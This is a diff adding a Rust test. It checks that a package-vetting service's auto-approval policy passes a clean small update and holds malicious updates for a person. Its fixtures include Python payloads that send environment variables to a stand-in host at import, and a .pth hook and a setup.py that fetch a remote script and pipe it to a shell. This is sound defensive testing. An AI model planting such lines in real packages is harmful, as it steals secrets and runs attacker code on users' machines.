@@ -1,0 +1,85 @@
+//! The `small-update` auto-approval policy against real inspection: a
+//! small clean update of an approved release is approved by the policy,
+//! with its evidence; updates that exfiltrate the environment at import,
+//! add a `.pth` file, or download and run code from setup.py are never
+//! approved by it, and wait for a person.
+
+mod support;
+
+use std::time::{Duration, Instant};
+
+use support::airlock::Airlock;
+use support::{LocalUpstream, Package, UpstreamFile};
+
+const NAME: &str = "policy-demo";
+const MODULE: &str = "policy_demo/__init__.py";
+
+fn pkg(version: &str, module: &str) -> Package {
+    Package::new(NAME, version).with_module(MODULE, module)
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_small_clean_update_passes_the_policy_and_malicious_ones_never_do() {
+    let clean = "VALUE = 1\n\ndef value():\n    return VALUE\n";
+    let exfiltrates =
+        "import os\nimport urllib.request\n\nVALUE = 3\nurllib.request.urlopen('https://collector.invalid/c', data=repr(dict(os.environ)).encode())\n";
+    let setup_py = "import subprocess\nimport urllib.request\nfrom setuptools import setup\n\nsubprocess.run(urllib.request.urlopen('https://payload.invalid/p.sh').read(), shell=True)\nsetup(name='policy-demo', version='1.0.4')\n";
+    let files = vec![
+        UpstreamFile::new(NAME, pkg("1.0", clean).wheel()),
+        UpstreamFile::new(NAME, pkg("1.0.1", "VALUE = 2\n\ndef value():\n    return VALUE\n").wheel()),
+        UpstreamFile::new(NAME, pkg("1.0.2", exfiltrates).wheel()),
+        UpstreamFile::new(
+            NAME,
+            pkg("1.0.3", clean).with_wheel_file("policy_demo_hook.pth", "import os; os.system('curl -s https://payload.invalid/p.sh | sh')\n").wheel(),
+        ),
+        // Only an sdist: its setup.py runs at install.
+        UpstreamFile::new(NAME, pkg("1.0.4", clean).with_setup_py(setup_py).sdist()),
+    ];
+    let upstream = LocalUpstream::start(files);
+    let mut airlock = Airlock::new();
+    airlock.set_config(&[("auto_approve_max_lines", "500"), ("watch_sync_secs", "0")]);
+    let auditor = airlock.user_with_token("alice", "auditor");
+    airlock.serve(Some(&upstream.base_url));
+
+    assert_eq!(airlock.request(&auditor, "policy-demo==1.0").await.status(), 202);
+    airlock.wait_for(&auditor, NAME, "1.0", &["awaiting_review"]).await;
+    // Without an approved base, the policy leaves the first release to a person.
+    tokio::time::sleep(Duration::from_secs(6)).await;
+    assert_eq!(airlock.release(&auditor, NAME, "1.0").await["status"], "awaiting_review");
+    assert_eq!(airlock.decide(&auditor, NAME, "1.0", "approve", "read it all").await.status(), 200);
+
+    let updates = ["1.0.1", "1.0.2", "1.0.3", "1.0.4"];
+    for v in updates {
+        assert_eq!(airlock.request(&auditor, &format!("policy-demo=={v}")).await.status(), 202);
+    }
+    for v in updates {
+        let r = airlock.wait_for(&auditor, NAME, v, &["awaiting_review", "approved", "failed"]).await;
+        assert_ne!(r["status"], "failed", "{r}");
+    }
+    let started = Instant::now();
+    let approved = loop {
+        let r = airlock.release(&auditor, NAME, "1.0.1").await;
+        if r["status"] == "approved" {
+            break r;
+        }
+        assert!(started.elapsed() < Duration::from_secs(40), "the clean update was not approved by the policy: {r}\n{}", airlock.log());
+        tokio::time::sleep(Duration::from_millis(300)).await;
+    };
+    let d = &approved["decisions"][0];
+    assert_eq!(
+        (d["user"].as_str(), d["policy"].as_str(), d["audit_base"].as_str()),
+        (Some("policy:small-update"), Some("small-update"), Some("1.0")),
+        "{approved}"
+    );
+    assert!(d["comment"].as_str().unwrap().contains("no capability added"), "{approved}");
+
+    // Two more measuring rounds: the malicious updates are weighed and left for a person.
+    tokio::time::sleep(Duration::from_secs(11)).await;
+    for v in ["1.0.2", "1.0.3", "1.0.4"] {
+        let r = airlock.release(&auditor, NAME, v).await;
+        assert_eq!(r["status"], "awaiting_review", "{v} must never pass the policy: {r}");
+        assert!(r["decisions"].as_array().unwrap().is_empty(), "{r}");
+    }
+    let declined = airlock.log().matches("left for a person").count();
+    assert!(declined >= 3, "each malicious update is weighed and declined:\n{}", airlock.log());
+}
